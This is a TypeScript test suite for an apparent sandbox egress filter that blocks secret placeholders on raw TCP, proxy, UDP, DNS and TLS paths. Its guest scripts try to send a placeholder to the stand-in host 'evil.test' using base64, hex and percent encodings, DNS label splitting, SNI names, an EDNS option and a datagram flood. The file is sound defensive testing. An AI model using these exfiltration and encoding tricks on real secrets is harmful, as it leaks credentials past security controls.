/**
 * Placeholders of secrets on every way out that is no request: what the guest sees, what it says on the host, and
 * that no byte of what carried them arrived.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { Buffer } from "node:buffer";
import process from "node:process";
import { type NamespaceGuest, openNamespaceGuest } from "../support/namespace_guest.ts";
import { EVIL, PORT, PRIVATE, PUBLIC, PUBLIC_2, PUBLIC_6 } from "../support/places.ts";
import { until } from "../support/process.ts";
import { resolve, say } from "../support/say.ts";
import { openWorld, type World } from "../support/world.ts";

const VALUE = "a-value-that-no-test-may-see";
const HOME = "api.allowed.test";
const secrets = [{ name: "ROUTED_KEY", hosts: [HOME] }];

let world: World;
let guest: NamespaceGuest;
let placeholder: string;
beforeAll(async () => {
  process.env["ROUTED_KEY"] = VALUE;
  world = await openWorld();
  guest = await openNamespaceGuest(world, {
    policy: "public-only",
    tls: { ports: [443, 993], upstreamCa: [world.ca], opaque: true },
    secrets,
    onSecretViolation: "block-and-log",
  });
  placeholder = guest.placeholders["ROUTED_KEY"] ?? "";
  await resolve(guest, HOME, "files.allowed.test", "evil.test");
});
afterAll(async () => {
  await guest?.[Symbol.asyncDispose]();
  await world?.[Symbol.asyncDispose]();
});
beforeEach(() => world.internet.reset());

/** Routes and disguises in the journal, of violations since some line. */
function violations(of: NamespaceGuest, from: number): string[] {
  return of.journal.slice(from).filter(({ event }) => event === "secret-violation")
    .map(({ route, disguises }) => `${route} ${disguises}`).sort();
}

/** The placeholder as programs would write it, or a guest that hopes not to be seen. */
function spellings(): Record<string, string> {
  const bytes = Buffer.from(placeholder);
  const base64 = (before: string) => Buffer.from(before + placeholder).toString("base64");
  return {
    plain: placeholder,
    upper: placeholder.toUpperCase(),
    hex: bytes.toString("hex"),
    "base64 at 0": base64(""),
    "base64 at 1": base64("x"),
    "base64 at 2": base64("xy"),
    "base64 in lines": base64("").replace(/(.{20})/g, "$1\r\n"),
    percent: [...bytes].map((byte) => `%${byte.toString(16)}`).join(""),
    "percent twice": [...bytes].map((byte) => `%25${byte.toString(16)}`).join(""),
    json: [...placeholder].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join(""),
    html: [...placeholder].map((c) => `&#${c.charCodeAt(0)};`).join(""),
    "utf-16": Buffer.from(placeholder, "utf16le").toString("latin1"),
  };
}

/**
 * Sends datagrams, each list from a socket of its own, each datagram after the one before was answered; how long
 * the answers are, or what came instead.
 */
async function exchange(
  [at, port]: readonly [string, number],
  ...flows: readonly (readonly string[])[]
): Promise<string[][]> {
  const script = `
import concurrent.futures, json, socket, sys
at, port = sys.argv[1:]
def converse(words):
    s = socket.socket(socket.AF_INET6 if ":" in at else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2); s.connect((at, int(port))); answers = []
    for word in words:
        try:
            s.send(word.encode("latin-1")); answers.append(str(len(s.recv(70000))))
        except OSError as error:
            answers.append(str(error.strerror or error)); s.settimeout(0.3)
    return answers
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    print(json.dumps(list(pool.map(converse, json.load(sys.stdin)))))`;
  const stdin = JSON.stringify(flows);
  const { stdout } = await guest.run(["python3", "-c", script, at, String(port)], { stdin });
  return JSON.parse(stdout);
}

describe("the first flight of TCP", () => {
  test("carries no placeholder, however it is written, and its neighbours pass", async () => {
    const from = guest.journal.length;
    const written = Object.values(spellings());
    const outcomes = await say(
      guest,
      ...written.map((text) => ({
        to: [EVIL, PORT.echo] as const,
        text: `k=${text}\n`,
        cut: 9999,
      })),
      { to: [EVIL, PORT.echo], text: `k=${placeholder.slice(0, -1)}\n`, cut: 9999 },
      { to: [EVIL, PORT.echo], text: `k=${placeholder.replace(/.$/, "~")}\n`, cut: 9999 },
    );
    expect(outcomes.slice(0, written.length)).toEqual(written.map(() => "reset"));
    expect(outcomes.slice(written.length).map((text) => text.slice(0, 7)))
      .toEqual(["text k=", "text k="]);
    await until("what the test waits for", () => violations(guest, from).length === written.length);
    const { bytes, accepts } = await world.internet.report();
    // The two neighbours, and nothing else.
    expect(bytes[`${EVIL}:${PORT.echo}`]).toBe(2 * placeholder.length + 5);
    expect(accepts[`${EVIL}:${PORT.echo}`]).toBe(2);
  });

  test("is looked at where the server spoke first, too", async () => {
    const outcomes = await guest.run([
      "python3",
      "-c",
      `
import socket, sys
for word in sys.argv[1:]:
    s = socket.create_connection(("${EVIL}", ${PORT.banner}), 10); s.settimeout(5)
    s.recv(100)
    try:
        s.sendall(word.encode()); s.shutdown(socket.SHUT_WR); print("closed" if s.recv(100) == b"" else "text")
    except OSError as error: print(error.strerror)`,
      "SSH-2.0-guest\r\n",
      `SSH-2.0-${placeholder}\r\n`,
    ]);
    expect(outcomes.stdout.trim().split("\n")).toEqual(["closed", "Connection reset by peer"]);
    const { bytes } = await world.internet.report();
    expect(bytes[`${EVIL}:${PORT.banner}`] ?? 0).toBeLessThanOrEqual("SSH-2.0-guest\r\n".length);
  });

  test("names no server by it, whether its TLS is opened or not", async () => {
    const from = guest.journal.length;
    const name = `${placeholder}.evil.test`;
    const [dots, rest] = [placeholder.slice(0, 20), placeholder.slice(20)];
    const outcomes = await say(
      guest,
      { to: [EVIL, PORT.https], sni: name },
      { to: [EVIL, PORT.https2], sni: name },
      { to: [EVIL, PORT.https2], sni: name, record: 30 },
      { to: [EVIL, PORT.https2], sni: `${dots}.${rest}.evil.test` },
      { to: [PUBLIC, PORT.https2], sni: `${placeholder}.${HOME}` },
      { to: [EVIL, PORT.https2], sni: "evil.test" },
    );
    expect(outcomes).toEqual(["reset", "reset", "reset", "reset", "reset", "hello"]);
    await until("what the test waits for", () => violations(guest, from).length === 5);
    expect(violations(guest, from)).toEqual(Array(5).fill("tls-name plain"));
    const { names } = await world.internet.report();
    expect(names.map(({ sni }) => sni)).toEqual(["evil.test"]);
  });
});

describe("what is said to a proxy", () => {
  test("is looked at to its end, and passes without a placeholder", async () => {
    const from = guest.journal.length;
    const request = (path: string) =>
      `GET http://evil.test${path} HTTP/1.1\r\nHost: evil.test\r\n\r\n`;
    const outcomes = await say(
      guest,
      {
        to: [EVIL, PORT.http],
        text: request("/1") + request("/2"),
        cut: 60,
        gap: 0.2,
        all: true,
        patience: 2,
      },
      {
        to: [EVIL, PORT.http],
        text: request("/3") + request(`/${placeholder}`),
        cut: request("/3").length,
        gap: 0.3,
        all: true,
        patience: 2,
      },
      {
        to: [EVIL, PORT.http],
        text: `CONNECT ${placeholder}.evil.test:443 HTTP/1.1\r\n\r\n`,
        cut: 999,
      },
    );
    expect(outcomes).toEqual(["200 200", "200", "reset"]);
    const { requests } = await world.internet.report();
    expect(requests.map(({ path }) => path).sort()).toEqual(["/1", "/2", "/3"]);
    expect(violations(guest, from)).toEqual(["stream plain", "stream plain"]);
  });
});

describe("datagrams", () => {
  test.each([["IPv4", EVIL], ["IPv6", PUBLIC_6]])(
    "pass over %s as they are, the empty and the largest, in their order",
    async (_family, at) => {
      const words = ["a", "", "b".repeat(1_400), "c".repeat(60_000)];
      expect(await exchange([at, PORT.echo], words)).toEqual([["1", "0", "1400", "60000"]]);
    },
  );

  test("with a placeholder go nowhere, nor does what their flow sends after them", async () => {
    const from = guest.journal.length;
    const written = Object.values(spellings());
    const [fine, ...lost] = await exchange(
      [EVIL, PORT.echo],
      ["fine"],
      ...written.map((text) => ["a", `k=${text}`, "after"]),
    );
    for (const answers of lost) expect(answers).toEqual(["1", "timed out", "timed out"]);
    expect(violations(guest, from)).toHaveLength(written.length);
    // Another flow is another flow.
    expect(fine).toEqual(["4"]);
    const { datagrams } = await world.internet.report();
    expect(datagrams).toEqual({ [`${EVIL}:${PORT.echo}`]: written.length + 1 });
    const denied = guest.journal.slice(from).filter(({ event }) => event === "denied");
    expect(denied.map(({ reason }) => reason)).toEqual(written.map(() => "secret-violation"));
  });

  test("to a closed port come back, and their flow ends as one that netstack moves", async () => {
    const from = guest.journal.length;
    const answers = await exchange([EVIL, 9999], ["a", "b", "c", "d"]);
    expect(answers).toEqual([Array(4).fill("Connection refused")]);
    await until(
      "what the test waits for",
      () => guest.journal.slice(from).some(({ event }) => event === "closed"),
    );
    expect(guest.journal.findLast(({ event }) => event === "closed"))
      .toMatchObject({ end: "refused", up: 4, down: 0 });
  });

  test("that policy denies are denied for that, and reach nobody", async () => {
    const from = guest.journal.length;
    expect(await exchange([PRIVATE[0], PORT.echo], [placeholder])).toEqual([["timed out"]]);
    expect(guest.journal.slice(from)).toContainEqual(
      expect.objectContaining({ event: "denied", protocol: "udp", ruleText: "deny@private" }),
    );
    expect((await world.internet.report()).datagrams).toEqual({});
  });
});

test("a question for a name with a placeholder is refused over UDP and TCP, and nobody is asked", async () => {
  const from = guest.journal.length;
  const core = placeholder;
  const hex = Buffer.from(core).toString("hex");
  const names = [
    `${core}.evil.test`,
    `${core.toUpperCase()}.evil.test`,
    // Lengths of labels that are letters of their own: 48 is a 0.
    `${core.slice(0, 30)}.${core.slice(30).padEnd(48, "x")}.evil.test`,
    `${"x".repeat(18)}${core.slice(0, 30)}.${core.slice(30)}.evil.test`,
    `${hex.slice(0, 60)}.${hex.slice(60)}.evil.test`,
    [...core].join(".") + ".evil.test",
    `${core}.${HOME}`,
  ];
  const dig = (name: string, ...options: readonly string[]) =>
    guest.run(["dig", "+tries=1", "+time=5", ...options, name, "TXT"]);
  const outcomes = await Promise.all([
    ...names.map((name) => dig(name)),
    ...names.map((name) => dig(name, "+tcp")),
    dig("evil.test", `+ednsopt=65001:${Buffer.from(placeholder).toString("hex")}`),
  ]);
  for (const { stdout } of outcomes) {
    expect(stdout).toContain("status: REFUSED");
    expect(stdout).toContain("(secret-violation)");
  }
  expect(violations(guest, from).map((text) => text.split(" ")[0])).toEqual(
    outcomes.map(() => "dns"),
  );
  expect((await world.internet.report()).queries).toEqual([]);
  expect((await dig(`${placeholder.slice(0, -1)}.evil.test`)).stdout).toContain("status: NXDOMAIN");
  expect((await world.internet.report()).queries).toHaveLength(1);
});

/** Says lines inside TLS, each once the one before was answered, and prints what came back. */
async function talk(name: string, address: string, lines: readonly string[]): Promise<string> {
  const script = `
import socket, ssl, sys
name, address, ca, *lines = sys.argv[1:]
context = ssl.create_default_context(cafile=ca)
with context.wrap_socket(socket.create_connection((address, 993), 10), server_hostname=name) as s:
    f = s.makefile("rwb")
    for line in lines:
        try:
            f.write((line + "\\r\\n").encode()); f.flush()
            print(f.readline().decode().strip() or "closed", flush=True)
        except OSError as error: print("cut", flush=True); break`;
  const argv = ["python3", "-c", script, name, address, guest.authority, ...lines];
  const { stdout, stderr } = await guest.run(argv);
  return stdout === "" ? stderr : stdout.trim();
}

test("what passes opaque inside opened TLS is looked at to its end: its own host's is told, others' is cut", async () => {
  const from = guest.journal.length;
  const foreign = await talk("files.allowed.test", PUBLIC_2, [
    "a login",
    `b ${placeholder}`,
    "c",
  ]);
  expect(foreign.replace("closed", "cut")).toMatch(/^A LOGIN\ncut/);
  expect(violations(guest, from)).toEqual(["stream plain"]);
  const home = await talk(HOME, PUBLIC, ["a login", `b ${placeholder}`]);
  expect(home).toBe(`A LOGIN\nB ${placeholder.toUpperCase()}`);
  expect(guest.journal.slice(from)).toContainEqual(
    expect.objectContaining({ event: "secret", name: "ROUTED_KEY", what: "inert", host: HOME }),
  );
  expect(guest.notices.filter((line) => line.includes("ROUTED_KEY"))).toHaveLength(1);
});

test("a flood of violations is counted, told in a few lines, and costs no memory", async () => {
  const before = guest.denials.length;
  const from = guest.journal.length;
  const { stdout } = await guest.run([
    "python3",
    "-c",
    `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); n = 0
for port in range(20000, 20200):
    s.sendto(sys.argv[1].encode(), ("${EVIL}", port)); n += 1
for at in range(20000):
    s.sendto(sys.argv[1].encode(), ("${EVIL}", 20000 + at % 200))
print(n)`,
    placeholder,
  ]);
  expect(stdout.trim()).toBe("200");
  await until("what the test waits for", () => violations(guest, from).length >= 100);
  expect((await world.internet.report()).datagrams).toEqual({});
  expect(guest.denials.length - before).toBeLessThanOrEqual(60);
  expect(guest.denials.join("\n")).not.toContain(VALUE);
  expect(JSON.stringify(guest.journal)).not.toContain(VALUE);
});

test("the host is told of violations: of which secret, to whom, by what, and how it was written", () => {
  const told = guest.denials.join("\n");
  expect(told).toContain(
    "denied a datagram to evil.test with the placeholder of ROUTED_KEY: secret-violation, it carries",
  );
  expect(told).toMatch(
    /denied a TCP stream to evil\.test with the placeholder of ROUTED_KEY in base64/,
  );
});

test("block-and-terminate ends the sandbox, whatever its guest has under way, and nothing gets out", async () => {
  const strict = await openNamespaceGuest(world, {
    policy: "public-only",
    secrets,
    onSecretViolation: "block-and-terminate",
  });
  const own = strict.placeholders["ROUTED_KEY"] ?? "";
  const busy = strict.start([
    "python3",
    "-c",
    `
import socket
s = socket.create_connection(("${EVIL}", ${PORT.bulk})); s.sendall(b"SINK\\n")
chunk = bytes(1 << 20)
while True: s.sendall(chunk)`,
  ]);
  const isBusy = async () =>
    ((await world.internet.report()).accepts[`${EVIL}:${PORT.bulk}`] ?? 0) > 0;
  await until("the upload runs", isBusy);
  const culprit = strict.start([
    "python3",
    "-c",
    `
import socket, sys
key = sys.argv[1].encode()
while True:
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(key, ("${EVIL}", ${PORT.echo}))
        q = b"".join(bytes([len(l)]) + l for l in (key, b"evil", b"test")) + b"\\0\\0\\1\\0\\1"
        u.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + q, ("9.9.9.9", 53))
        t = socket.socket(); t.settimeout(1); t.connect(("${EVIL}", ${PORT.echo})); t.sendall(key)
    except OSError: pass`,
    own,
  ]);
  await until("the sandbox ends", () => strict.terminated !== undefined);
  expect(strict.terminated).toMatch(
    /^Cannot go on: the guest sent .* with the placeholder of ROUTED_KEY$/,
  );
  busy.kill();
  culprit.kill();
  await strict[Symbol.asyncDispose]();
  // The upload has its end in the journal, though the sandbox was ended in the middle of it.
  expect(strict.journal).toContainEqual(
    expect.objectContaining({ event: "closed", destination: `${EVIL}:${PORT.bulk}` }),
  );
  const { accepts, datagrams, queries } = await world.internet.report();
  expect([accepts[`${EVIL}:${PORT.echo}`], datagrams, queries]).toEqual([undefined, {}, []]);
});
